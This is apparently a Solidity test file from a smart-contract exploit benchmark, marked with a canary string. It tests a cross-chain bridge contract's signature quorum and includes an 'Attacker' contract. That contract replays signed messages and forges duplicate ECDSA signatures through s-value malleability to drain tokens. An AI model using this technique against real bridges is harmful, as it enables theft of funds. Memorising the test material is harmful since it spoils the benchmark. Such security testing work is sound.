// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BridgeDesk.sol";

// assay-canary-ff751181-d4da-481a-9017-27d9fa75e666

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 100_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BOSS = address(0xB055);
    address private constant ANA = address(0xA9A);
    address private constant FAR = address(0xFA2);
    address private constant FAR_TOO = address(0xFA22);

    Dollar private usd;
    BridgeDesk private desk;
    BridgeDesk private other;
    Attacker private mallory;
    uint256[5] private keys; // in the order of their addresses; the third is the attacker's
    uint256[2] private former;

    function setUp() public {
        usd = new Dollar();
        address[] memory first = new address[](7);
        for (uint256 i = 0; i < 7; i++) first[i] = vm.addr(100 + i);
        for (uint256 i = 0; i < 5; i++) keys[i] = 100 + i;
        for (uint256 i = 0; i < 5; i++) {
            for (uint256 j = i + 1; j < 5; j++) {
                if (vm.addr(keys[j]) < vm.addr(keys[i])) (keys[i], keys[j]) = (keys[j], keys[i]);
            }
        }
        former = [uint256(105), 106];
        vm.startPrank(BOSS);
        desk = new BridgeDesk(usd, first);
        desk.setWatcher(first[5], false);
        desk.setWatcher(first[6], false);
        desk.setDesk(10, FAR);
        desk.setDesk(20, FAR_TOO);
        vm.stopPrank();
        other = new BridgeDesk(usd, first);
        other.setDesk(10, FAR);

        usd.transfer(address(desk), 5_000e18);
        usd.transfer(ANA, 1_000e18);
        mallory = new Attacker(desk, usd);
        usd.transfer(address(mallory), 10e18);

        // what is true, the last one for the other desk
        BridgeDesk.Message memory m = message(10, FAR, 1, ANA, 500e18);
        mallory.learn(m, three(desk, m, 0, 1, 2));
        desk.deliver(m, three(desk, m, 0, 1, 2));
        m = message(10, FAR, 2, address(mallory), 1e18);
        mallory.learn(m, three(desk, m, 1, 2, 4));
        m = message(10, FAR, 3, address(mallory), 500e18);
        mallory.learn(m, three(other, m, 0, 1, 2));

        // what is not
        m = message(10, FAR, 4, address(mallory), 500e18);
        mallory.learn(m, three(desk, m, 2, 2, 2));
        bytes[] memory s = new bytes[](3);
        s[0] = signed(desk, m, keys[2]);
        s[1] = signed(desk, m, former[0]);
        s[2] = signed(desk, m, former[1]);
        for (uint256 i = 0; i < 3; i++) {
            mallory.learn(m, s);
            (s[0], s[1], s[2]) = (s[1], s[2], s[0]);
            mallory.learn(m, s);
            if (i == 1) (s[0], s[1]) = (s[1], s[0]);
        }
        s = new bytes[](1);
        s[0] = signed(desk, m, keys[2]);
        mallory.learn(m, s);
        mallory.learn(m, new bytes[](0));
        mallory.learn(m, new bytes[](3));
        m = message(30, address(0), 1, address(mallory), 500e18);
        mallory.learn(m, three(desk, m, 2, 2, 2));
        m = message(10, FAR_TOO, 1, address(mallory), 500e18);
        mallory.learn(m, three(desk, m, 2, 2, 2));
    }

    function message(uint256 chain, address from, uint256 nonce, address to, uint256 amount)
        private
        pure
        returns (BridgeDesk.Message memory)
    {
        return BridgeDesk.Message(chain, from, nonce, to, amount);
    }

    function signed(BridgeDesk at, BridgeDesk.Message memory m, uint256 key) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, at.digestOf(m));
        return abi.encodePacked(r, s, v);
    }

    function three(BridgeDesk at, BridgeDesk.Message memory m, uint256 a, uint256 b, uint256 c)
        private
        returns (bytes[] memory s)
    {
        s = new bytes[](3);
        s[0] = signed(at, m, keys[a]);
        s[1] = signed(at, m, keys[b]);
        s[2] = signed(at, m, keys[c]);
    }

    function test_Regular() public {
        require(desk.watchers() == 5 && desk.quorum() == 3 && usd.balanceOf(ANA) == 1_500e18, "set up");
        vm.startPrank(ANA);
        usd.approve(address(desk), 300e18);
        require(desk.send(20, ANA, 100e18) == 1 && desk.send(10, BOSS, 200e18) == 2, "sent");
        vm.stopPrank();
        require(usd.balanceOf(address(desk)) == 4_800e18, "held");
        BridgeDesk.Message memory m = message(20, FAR_TOO, 1, ANA, 50e18);
        desk.deliver(m, three(desk, m, 1, 3, 4));
        require(usd.balanceOf(ANA) == 1_250e18 && desk.done(desk.digestOf(m)), "delivered");
        vm.startPrank(BOSS);
        desk.setWatcher(vm.addr(keys[0]), false);
        desk.setWatcher(ANA, true);
        desk.setDesk(20, address(0));
        desk.pause(true);
        desk.pause(false);
        vm.stopPrank();
        m = message(10, FAR, 9, BOSS, 50e18);
        other.deliver(m, _late(m));
        vm.prank(BOSS);
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.renounceOwnership();
        usd.approve(address(other), 1e18);
        other.send(10, ANA, 1e18);
        other.pause(true);
        other.setWatcher(ANA, true);
        other.transferOwnership(address(this));
        other.renounceOwnership();
    }

    // four of seven at the other desk
    function _late(BridgeDesk.Message memory m) private returns (bytes[] memory s) {
        usd.transfer(address(other), 50e18);
        s = new bytes[](5);
        for (uint256 i = 0; i < 5; i++) s[i] = signed(other, m, keys[i]);
    }

    function test_RefusesSetups() public {
        address[] memory two = new address[](2);
        (two[0], two[1]) = (ANA, BOSS);
        vm.expectRevert("too few watchers");
        new BridgeDesk(usd, two);
        address[] memory same = new address[](4);
        (same[0], same[1], same[2], same[3]) = (ANA, BOSS, FAR, ANA);
        vm.expectRevert("no change");
        new BridgeDesk(usd, same);
        same[3] = address(0);
        vm.expectRevert("no change");
        new BridgeDesk(usd, same);
    }

    function test_RefusesStrangers() public {
        bytes memory reason = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA);
        vm.startPrank(ANA);
        vm.expectRevert(reason);
        desk.setDesk(30, ANA);
        vm.expectRevert(reason);
        desk.setWatcher(ANA, true);
        vm.expectRevert(reason);
        desk.pause(true);
        vm.stopPrank();
    }

    function test_RefusesTheHouse() public {
        vm.startPrank(BOSS);
        vm.expectRevert("that is here");
        desk.setDesk(block.chainid, FAR);
        vm.expectRevert("no change");
        desk.setWatcher(ANA, false);
        desk.setWatcher(vm.addr(keys[0]), false);
        desk.setWatcher(vm.addr(keys[1]), false);
        address third = vm.addr(keys[2]);
        vm.expectRevert("too few watchers");
        desk.setWatcher(third, false);
        desk.pause(true);
        vm.stopPrank();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.send(10, ANA, 1);
        BridgeDesk.Message memory m = message(10, FAR, 7, ANA, 1e18);
        bytes[] memory s = three(desk, m, 2, 3, 4);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.deliver(m, s);
    }

    function test_RefusesSends() public {
        vm.startPrank(ANA);
        usd.approve(address(desk), 300e18);
        vm.expectRevert(abi.encodeWithSelector(BridgeDesk.NoDesk.selector, 30));
        desk.send(30, ANA, 1);
        vm.expectRevert("to whom, how much");
        desk.send(10, address(0), 1);
        vm.expectRevert("to whom, how much");
        desk.send(10, ANA, 0);
        vm.stopPrank();
    }

    function refused(BridgeDesk.Message memory m, bytes[] memory s, bytes memory reason) private {
        vm.expectRevert(reason);
        desk.deliver(m, s);
    }

    function test_RefusesMessages() public {
        BridgeDesk.Message memory m = message(10, FAR_TOO, 7, ANA, 1e18);
        refused(m, three(desk, m, 0, 1, 2), abi.encodeWithSelector(BridgeDesk.NoDesk.selector, 10));
        m = message(30, address(0), 7, ANA, 1e18);
        refused(m, three(desk, m, 0, 1, 2), abi.encodeWithSelector(BridgeDesk.NoDesk.selector, 30));
        m = message(10, FAR, 1, ANA, 500e18);
        refused(m, three(desk, m, 0, 1, 2), abi.encodeWithSelector(BridgeDesk.Done.selector, desk.digestOf(m)));
        m = message(10, FAR, 7, ANA, 6_000e18);
        bytes[] memory s = three(desk, m, 0, 1, 2);
        vm.expectRevert();
        desk.deliver(m, s);
    }

    function test_RefusesSignatures() public {
        BridgeDesk.Message memory m = message(10, FAR, 7, ANA, 1e18);
        bytes[] memory s = new bytes[](2);
        s[0] = signed(desk, m, keys[0]);
        s[1] = signed(desk, m, keys[1]);
        refused(m, s, abi.encodeWithSelector(BridgeDesk.NotEnough.selector, 2, 3));
        refused(m, three(desk, m, 1, 0, 2), "out of order");
        address who = vm.addr(keys[4]);
        vm.prank(BOSS);
        desk.setWatcher(who, false);
        refused(m, three(desk, m, 2, 3, 4), abi.encodeWithSelector(BridgeDesk.NotAWatcher.selector, who));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 410e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function dollar() public view returns (address) {
        return address(usd);
    }
}

contract Attacker {
    BridgeDesk private desk;
    BridgeDesk.Message[] private messages;
    bytes[][] private signatures;

    constructor(BridgeDesk d, Dollar usd) {
        desk = d;
        usd.approve(address(d), type(uint256).max);
    }

    function learn(BridgeDesk.Message memory m, bytes[] memory s) external {
        messages.push(m);
        signatures.push(s);
    }

    function attempt(BridgeDesk.Message memory m, bytes[] memory s) private {
        try desk.deliver(m, s) {} catch {}
    }

    function run() external {
        try desk.setDesk(30, address(this)) {} catch {}
        try desk.setWatcher(address(this), true) {} catch {}
        try desk.pause(true) {} catch {}
        desk.send(10, address(this), 1e18);
        for (uint256 i = 0; i < messages.length; i++) {
            BridgeDesk.Message memory m = messages[i];
            bytes[] memory s = signatures[i];
            attempt(m, s);
            attempt(m, s);
            m.to = address(this);
            m.amount = 500e18;
            attempt(m, s);
            m.nonce = 77;
            attempt(m, s);
            m.srcChain = 20;
            attempt(m, s);
            m.srcDesk = address(0xFA22);
            attempt(m, s);
            m = messages[i];
            if (s.length > 1 && s[0].length == 65) {
                s[1] = other(s[0]);
                attempt(m, s);
                (s[0], s[1]) = (s[1], s[0]);
                attempt(m, s);
            }
        }
    }

    // the same signature with the other root
    function other(bytes memory signature) private pure returns (bytes memory) {
        bytes32 r;
        uint256 s;
        uint8 v = uint8(signature[64]);
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
        }
        s = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141 - s;
        return abi.encodePacked(r, s, v == 27 ? uint8(28) : uint8(27));
    }
}
